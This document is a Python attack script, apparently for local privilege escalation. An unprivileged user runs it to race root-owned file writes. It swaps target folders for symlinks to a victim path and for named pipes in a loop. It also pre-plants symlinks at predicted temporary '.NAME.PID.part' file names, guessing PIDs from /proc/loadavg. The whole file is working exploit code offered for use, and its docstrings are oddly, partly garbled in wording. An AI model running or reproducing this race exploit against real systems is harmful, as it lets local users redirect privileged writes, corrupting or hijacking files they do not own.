"""Run in the machine by a user of the portal's: put links and pipes where root is about to write, as fast as it can.

`python3 planted.py VICTIM FOLDER...`: in turns each folder is away, a link to VICTIM or a pipe, and what it was. Names of files are
asked for by `=NAME` after the folder: the unfinished file that root would write beside it, for the next processes of the machine.
"""

from __future__ import annotations

import os
import sys
from contextlib import suppress
from pathlib import Path

AHEAD = 400
"""So many processes from now: root's next verb is one of them."""


def swap(folder: str, victim: str) -> None:
    """Replace a folder for a moment by a link, then by a pipe."""
    place, was = Path(folder), Path(f"{folder}.was")
    steps = (
        lambda: place.rename(was),
        lambda: place.symlink_to(victim),
        place.unlink,
        lambda: os.mkfifo(place),
        place.unlink,
        lambda: was.rename(place),
    )
    for step in steps:
        with suppress(OSError):
            step()


def plant(folder: str, name: str, victim: str) -> None:
    """Put a link in the place of a file and of each unfinished one."""
    last = int(Path("/proc/loadavg").read_text(encoding="ascii").split()[-1])
    for part in [name, *(f".{name}.{last + ahead}.part" for ahead in range(AHEAD))]:
        with suppress(OSError):
            Path(folder, part).symlink_to(f"{victim}/file")


def main() -> None:
    """Go on until killed."""
    victim, *places = sys.argv[1:]
    while True:
        for place in places:
            folder, _, name = place.partition("=")
            if name:
                plant(folder, name, victim)
            else:
                swap(folder, victim)


if __name__ == "__main__":
    main()
